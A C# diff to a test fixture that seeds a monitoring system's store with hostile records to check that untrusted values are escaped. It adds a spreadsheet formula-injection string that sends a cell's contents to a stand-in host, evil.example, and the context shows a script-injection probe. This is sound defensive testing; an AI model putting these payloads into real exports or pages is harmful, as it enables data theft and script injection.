@@ -17,9 +17,14 @@ internal static class SeededFleet
     /// <summary>What of it stands on a page as text, whatever else becomes of it.</summary>
     public const string Seen = "<script>window.pwned=1</script>";
 
+    /// <summary>What a spreadsheet would compute.</summary>
+    public const string Formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
+
     private const string Subject = "evil.node";
 
     public static string Incident { get; } = Core.Incident.IdOf(Subject, DateTimeOffset.UnixEpoch, "seeded");
+
+    public static string Order { get; } = $"{Shard.Of(Subject)}{new string('a', 32)}";
 
     public static async Task StoreAsync(ITable table, DateTimeOffset now, CancellationToken cancellation)
     {
@@ -33,6 +38,8 @@ internal static class SeededFleet
         rows.Add(Put(Keys.Agent(NodeName.Parse("evil")), JsonSerializer.Serialize(EvilAgent(now), CoreJson.Default.AgentRecord)));
         rows.AddRange(EvilIncident(now));
         rows.AddRange(EvilHistory(now).Select(e => Put(Keys.History(Subject, e), JsonSerializer.Serialize(e, CoreJson.Default.HistoryEntry))));
+        rows.AddRange(EvilOrder(now));
+        rows.Add(AlertRows.Ledger(EvilAlert(now), Hostile, now, now.AddDays(1)));
         rows.Add(Put(Keys.Delivered(EvilAlert(now), Hostile), JsonSerializer.Serialize(EvilDelivery(now), MonitorJson.Default.DeliveryRecord)));
         rows.Add(Put(Keys.Audit(Subject, now, "seeded"), JsonSerializer.Serialize(EvilAudit(now), MonitorJson.Default.AuditView)));
         rows.Add(Put(Keys.Silence("0123456789ab"), JsonSerializer.Serialize(EvilSilence(now), CoreJson.Default.Silence)));
@@ -135,6 +142,7 @@ internal static class SeededFleet
     private static HistoryEntry[] EvilHistory(DateTimeOffset now) =>
     [
         new() { At = now, Place = "1.1", Fact = new NodeFact.SpawnFailed(Hostile) },
+        new() { At = now, Place = "1.0", Transition = new Transition(HealthState.Up, HealthState.Up, Condition.Healthy, Condition.Healthy, now, Formula) },
         new() { At = now, Place = "1.2", Transition = new Transition(HealthState.Up, HealthState.Down, Condition.Healthy, Condition.Exited, now, Hostile) },
         new()
         {
@@ -157,6 +165,32 @@ internal static class SeededFleet
             }),
         },
     ];
+
+    private static RowChange[] EvilOrder(DateTimeOffset now)
+    {
+        var order = new Order
+        {
+            Id = Order,
+            Audience = NodeName.Parse("evil"),
+            Node = NodeName.Parse("node"),
+            IssuedAt = now.ToUnixTimeSeconds(),
+            ExpiresAt = now.AddMinutes(5).ToUnixTimeSeconds(),
+            Verb = OrderVerb.Restart,
+            By = Hostile,
+            Identity = new ProcessIdentity(Hostile, 4711, 1, Hostile),
+        };
+        var record = new OrderRecord
+        {
+            Order = order,
+            State = OrderState.Ended,
+            StoredAt = now,
+            TakenAt = now,
+            EndedAt = now,
+            Steps = [new LadderStep(LadderRung.Store, now, 120, new StepResult.Failed(Hostile))],
+            Outcome = new Outcome { Result = OutcomeResult.Failed, Text = Hostile, Before = order.Identity, After = order.Identity },
+        };
+        return [Put(Keys.Order(Order)!.Value, JsonSerializer.Serialize(record, CoreJson.Default.OrderRecord)), Put(Keys.Placed(record), "{}")];
+    }
 
     private static Alert EvilAlert(DateTimeOffset now) => new()
     {
